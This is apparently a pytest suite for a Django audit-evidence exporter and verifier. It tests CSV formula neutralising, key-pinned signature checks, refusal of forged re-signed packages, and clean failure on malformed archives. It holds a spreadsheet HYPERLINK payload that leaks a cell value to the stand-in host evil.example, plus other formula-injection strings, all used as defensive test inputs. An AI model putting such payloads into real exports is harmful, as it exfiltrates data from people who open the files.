"""Evidence packages against a hostile reader and a hostile writer: spreadsheet formulas in the CSV are
shown as text (the JSON Lines stay exact), verification needs the expected key, and a malformed package
ends with a one-line reason and exit status 1, never a traceback."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from django.core.management import call_command
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audit.chain import canonical, public_key_pem
from audit.evidence import FORMULA_START, Period, csv_cell, evidence_export
from audit.evidence_verify import key_fingerprint, main
from audit.models import AuditEvent

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
TODAY = Period(timezone.now().date(), timezone.now().date())
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def export_audit_log() -> bytes:
    out = io.BytesIO()
    evidence_export(type_name="audit_log", period=TODAY, out=out, actor_repr="test")
    return out.getvalue()


def run(*arguments: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    try:
        status = main(list(arguments), out=out, err=err)
    except SystemExit as exc:  # argparse's usage errors
        status = int(str(exc.code))
    return status, out.getvalue(), err.getvalue()


@pytest.fixture
def package(db, tmp_path: Path) -> Path:
    path = tmp_path / "audit_log.zip"
    path.write_bytes(export_audit_log())
    return path


@pytest.fixture
def pem(tmp_path: Path) -> Path:
    path = tmp_path / "tollgate.pem"
    path.write_bytes(public_key_pem())
    return path


# --- finding 12: formulas in CSV cells ---------------------------------------------------------------


def test_a_formula_typed_at_the_login_form_is_text_in_the_csv_and_exact_in_the_jsonl(client, tmp_path, pem):
    client.post("/admin/login/", {"username": HYPERLINK, "password": "wrong"})
    data = export_audit_log()

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("audit_log.csv").decode())))
        lines = [json.loads(line) for line in archive.read("audit_log.jsonl").splitlines()]
        readme = archive.read("README.txt").decode()
    failed_csv = next(row for row in rows if row["action"] == "auth.login_failed")
    failed_json = next(line for line in lines if line["action"] == "auth.login_failed")
    assert failed_csv["object_repr"] == "'" + HYPERLINK
    assert failed_json["object_repr"] == HYPERLINK
    assert json.loads(failed_json["changes"]) == {"username": HYPERLINK}
    assert "remove one leading" in readme
    assert "Recompute hashes (the audit log's previous_hash and hash) from audit_log.jsonl" in readme
    # The exact values recompute the stored hash.
    assert failed_json["hash"] == AuditEvent.objects.get(action="auth.login_failed").hash
    (tmp_path / "p.zip").write_bytes(data)
    assert run(str(tmp_path / "p.zip"), "--public-key", str(pem))[0] == 0


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\uff1dcmd", "\uff0b1", "\uff0d1", "\uff20x", "'=1", "'plain"],
)
def test_every_cell_a_spreadsheet_would_evaluate_gets_one_quote(value):
    assert csv_cell(value) == "'" + value


@given(st.text(max_size=20) | st.integers() | st.none())
@settings(max_examples=50, deadline=None)
def test_the_csv_rule_is_reversible_and_leaves_other_cells_alone(value):
    cell = csv_cell(value)

    if isinstance(value, str) and value[:1] in FORMULA_START:
        assert cell[1:] == value
    else:
        assert cell == value
    if isinstance(cell, str):
        assert (cell[1:] if cell.startswith("'") else cell) == value


# --- finding 15: the expected key -------------------------------------------------------------------


def test_without_an_expected_key_verification_refuses_and_says_why(package):
    status, out, err = run(str(package))

    assert status == 2
    assert out == ""
    assert err.startswith("REFUSED: no expected key.")
    assert "re-sign" in err


def test_trusting_the_embedded_key_verifies_with_a_loud_warning(package):
    status, out, err = run(str(package), "--trust-embedded-key")

    assert status == 0
    assert err.startswith("WARNING: --trust-embedded-key")
    assert "NOT who signed them" in err
    assert "signed by the EMBEDDED key (integrity only)" in out


def test_the_expected_key_may_be_a_pem_the_older_positional_pem_or_a_fingerprint(package, pem):
    fingerprint = key_fingerprint(public_key_pem())

    for arguments in (["--public-key", str(pem)], [str(pem)], ["--fingerprint", fingerprint],
                      ["--fingerprint", fingerprint.upper()]):  # fmt: skip
        status, out, err = run(str(package), *arguments)
        assert (status, err) == (0, ""), arguments
        assert f"signed by the expected key, SHA-256 fingerprint {fingerprint}" in out


def resigned(data: bytes, change: Callable[[dict], None]) -> bytes:
    """The package as a forger makes it: content changed, manifest re-hashed, signed with a key of their own
    that replaces public_key.pem."""
    forger = Ed25519PrivateKey.generate()
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members = {name: source.read(name) for name in source.namelist()}
    members["audit_log.jsonl"] += b'{"sequence": 999}\n'
    manifest = json.loads(members["manifest.json"])
    entry = next(entry for entry in manifest["files"] if entry["name"] == "audit_log.jsonl")
    entry["sha256"], entry["rows"] = hashlib.sha256(members["audit_log.jsonl"]).hexdigest(), entry["rows"] + 1
    change(manifest)
    members["manifest.json"] = canonical(manifest)
    members["manifest.sig"] = base64.b64encode(forger.sign(members["manifest.json"]))
    members["public_key.pem"] = public_key_pem(forger.public_key())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, content in members.items():
            target.writestr(name, content)
    return out.getvalue()


def test_a_re_signed_package_passes_on_its_own_key_and_is_refused_with_the_expected_one(package, pem, tmp_path):
    forged = tmp_path / "forged.zip"
    forged.write_bytes(resigned(package.read_bytes(), lambda manifest: None))

    assert run(str(forged), "--trust-embedded-key")[0] == 0  # what the warning is about
    status, _, err = run(str(forged), "--public-key", str(pem))
    assert status == 1
    assert "MISMATCH public_key.pem: not the expected public key" in err
    assert "MISMATCH manifest.sig: the signature of manifest.json does not verify" in err
    status, _, err = run(str(forged), "--fingerprint", key_fingerprint(public_key_pem()))
    assert status == 1
    assert "MISMATCH public_key.pem: its fingerprint is" in err


def test_the_manage_command_takes_the_same_options(package, pem):
    with pytest.raises(SystemExit) as refused:
        call_command("verify_export", str(package), stdout=io.StringIO(), stderr=io.StringIO())
    out = io.StringIO()
    call_command("verify_export", str(package), "--fingerprint", key_fingerprint(public_key_pem()), stdout=out)

    assert refused.value.code == 2
    assert "OK: audit_log" in out.getvalue()


def test_the_public_key_to_publish_is_printed_with_its_fingerprint():
    out, err = io.StringIO(), io.StringIO()
    call_command("audit_public_key", stdout=out, stderr=err)

    assert out.getvalue().encode() == public_key_pem()
    assert err.getvalue().strip() == f"SHA-256 fingerprint: {key_fingerprint(public_key_pem())}"


# --- malformed packages -----------------------------------------------------------------------------


def rebuilt(data: bytes, members: Callable[[dict[str, bytes]], object]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        content = {name: source.read(name) for name in source.namelist()}
    members(content)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, value in content.items():
            target.writestr(name, value)
    return out.getvalue()


def manifest_set(change: Callable[[dict], object]) -> Callable[[dict[str, bytes]], None]:
    def apply(members: dict[str, bytes]) -> None:
        manifest = json.loads(members["manifest.json"])
        change(manifest)
        members["manifest.json"] = json.dumps(manifest).encode()

    return apply


MALFORMED = {
    "not a zip": (lambda data: b"PK\x03\x04 not really", "not a readable ZIP file"),
    "empty file": (lambda data: b"", "not a readable ZIP file"),
    "no manifest": (lambda data: rebuilt(data, lambda m: m.pop("manifest.json")), "manifest.json missing"),
    "manifest not json": (
        lambda data: rebuilt(data, lambda m: m.update({"manifest.json": b"{not json"})),
        "manifest.json is not JSON",
    ),
    "manifest a list": (
        lambda data: rebuilt(data, lambda m: m.update({"manifest.json": b"[1, 2]"})),
        "not a JSON object",
    ),
    "files not a list": (
        lambda data: rebuilt(data, manifest_set(lambda m: m.update(files="x"))),
        "'files' is missing or not a list",
    ),
    "rows a string": (
        lambda data: rebuilt(data, manifest_set(lambda m: m["files"][0].update(rows="3"))),
        "file entry 1 is not",
    ),
    "entry without name": (
        lambda data: rebuilt(data, manifest_set(lambda m: m["files"][1].pop("name"))),
        "file entry 2 is not",
    ),
    "no period": (lambda data: rebuilt(data, manifest_set(lambda m: m.pop("period"))), "'period'"),
    "signature not base64": (
        lambda data: rebuilt(data, lambda m: m.update({"manifest.sig": b"***"})),
        "manifest.sig is not base64",
    ),
    "key not a key": (
        lambda data: rebuilt(data, lambda m: m.update({"public_key.pem": b"hello"})),
        "public_key.pem is not an Ed25519 public key",
    ),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_a_malformed_package_ends_with_one_line_and_status_1(package, pem, tmp_path, case):
    damage, reason = MALFORMED[case]
    broken = tmp_path / "broken.zip"
    broken.write_bytes(damage(package.read_bytes()))

    status, out, err = run(str(broken), "--public-key", str(pem))

    assert status == 1
    assert out == ""
    assert "Traceback" not in err
    assert err.startswith(("MISMATCH", "MALFORMED"))
    assert reason in err, err


def test_a_missing_listed_file_is_a_mismatch(package, pem, tmp_path):
    broken = tmp_path / "broken.zip"
    broken.write_bytes(rebuilt(package.read_bytes(), lambda m: m.pop("audit_log.csv")))

    status, _, err = run(str(broken), "--public-key", str(pem))

    assert status == 1
    assert "MISMATCH audit_log.csv: listed in the manifest, missing from the package" in err


def test_the_module_runs_without_django_and_fails_cleanly(package, tmp_path):
    garbage = tmp_path / "garbage.zip"
    garbage.write_bytes(b"\x00" * 100)

    done = subprocess.run([sys.executable, "-m", "audit.evidence_verify", str(garbage), "--trust-embedded-key"],
                          cwd=ROOT, capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"})  # fmt: skip
    refused = subprocess.run([sys.executable, "-m", "audit.evidence_verify", str(package)], cwd=ROOT,
                             capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"})  # fmt: skip

    assert done.returncode == 1
    assert done.stderr.splitlines()[-1].startswith("MALFORMED")
    assert "Traceback" not in done.stderr
    assert refused.returncode == 2
    assert "REFUSED" in refused.stderr


# --- property: any damaged package ends cleanly --------------------------------------------------------

MEMBERS = ("audit_log.csv", "audit_log.jsonl", "manifest.json", "manifest.sig", "public_key.pem")


@st.composite
def damaged(draw: st.DrawFn, original: bytes) -> bytes:
    how = draw(st.sampled_from(["bytes of the zip", "member bytes", "manifest json", "drop member", "garbage"]))
    if how == "garbage":
        return draw(st.binary(max_size=300))
    if how == "bytes of the zip":
        data = bytearray(original)
        for _ in range(draw(st.integers(1, 5))):
            data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
        return bytes(data[: draw(st.integers(0, len(data)))] if draw(st.booleans()) else data)
    name = draw(st.sampled_from(MEMBERS))
    if how == "drop member":
        return rebuilt(original, lambda members: members.pop(name))
    if how == "member bytes":
        replacement = draw(st.binary(max_size=200))
        return rebuilt(original, lambda members: members.update({name: replacement}))
    json_values = st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=10),
        lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3),
        max_leaves=8,
    )
    manifest = json.loads(_manifest_of(original))
    path = draw(st.sampled_from(["", "files", "files.0", "files.0.rows", "files.0.name", "period", "export_type"]))
    value = draw(json_values)
    _set(manifest, path, value)
    encoded = json.dumps(manifest).encode()
    return rebuilt(original, lambda members: members.update({"manifest.json": encoded}))


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in MEMBERS}


def _manifest_of(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("manifest.json")


def _set(document: dict, path: str, value: object) -> None:
    if not path:
        document.clear()
        document["x"] = value
        return
    *parents, last = path.split(".")
    target: object = document
    for part in parents:
        target = target[int(part)] if isinstance(target, list) else target[part]  # type: ignore[index]
    if isinstance(target, list):
        target[int(last)] = value
    else:
        target[last] = value  # type: ignore[index]


def test_any_damaged_package_exits_1_or_2_with_a_message_and_no_traceback(package, pem, tmp_path):
    original = package.read_bytes()

    @given(damaged(original), st.sampled_from(["pem", "fingerprint", "trust"]))
    @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    def check(data: bytes, key: str) -> None:
        broken = tmp_path / "damaged.zip"
        broken.write_bytes(data)
        arguments = {
            "pem": ["--public-key", str(pem)],
            "fingerprint": ["--fingerprint", key_fingerprint(public_key_pem())],
            "trust": ["--trust-embedded-key"],
        }[key]
        status, _, err = run(str(broken), *arguments)  # an exception here fails the test with its traceback
        if status == 0:
            # Only a change that leaves every member as it was (a byte of zip bookkeeping) may verify.
            assert members_of(data) == members_of(original)
            return
        assert status in (1, 2), err
        messages = [line for line in err.splitlines() if not line.startswith("WARNING")]
        assert messages
        assert all(line.startswith(("MISMATCH ", "MALFORMED ")) for line in messages), err

    check()
